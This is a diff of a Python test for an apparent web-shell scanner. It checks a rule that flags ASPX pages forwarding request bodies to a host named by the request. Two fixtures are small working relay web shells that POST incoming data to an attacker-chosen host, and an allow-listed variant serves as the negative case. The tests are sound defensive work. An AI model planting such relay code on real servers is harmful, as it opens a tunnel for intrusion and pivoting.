@@ -392,3 +392,28 @@ def test_an_element_of_a_parameter_stays_a_parameter() -> None:
         "</script>"
     )
     assert CMD in {r.id for r in analyse(page)}
+
+
+FORWARD = "WH-S-ASPX-014"
+
+
+def test_request_body_posted_on_to_a_host_the_request_names_is_a_relay() -> None:
+    page = (
+        '<%@ Page Language="C#" %><% string to = Request.Form["srv"] + Request.Form["p"];'
+        " byte[] b = new byte[Request.ContentLength]; Request.InputStream.Read(b, 0, b.Length);"
+        ' HttpWebRequest w = (HttpWebRequest)WebRequest.Create(to); w.Method = "POST";'
+        " Stream s = w.GetRequestStream(); s.Write(b, 0, b.Length); %>"
+    )
+    assert FORWARD in {r.id for r in analyse(page)}
+    client = (
+        '<%@ Page Language="C#" %><% byte[] b = Request.BinaryRead(Request.ContentLength);'
+        ' Response.BinaryWrite(new WebClient().UploadData(Request.Headers["X-To"], "POST", b)); %>'
+    )
+    assert FORWARD in {r.id for r in analyse(client)}
+    # forwarded only to the listed map services
+    listed = (
+        '<%@ Page Language="C#" %><% string u = Request.QueryString["url"];'
+        " if (!allowed.Any(a => u.StartsWith(a))) { return; }"
+        " WebRequest w = WebRequest.Create(u); Request.InputStream.CopyTo(w.GetRequestStream()); %>"
+    )
+    assert FORWARD not in {r.id for r in analyse(listed)}
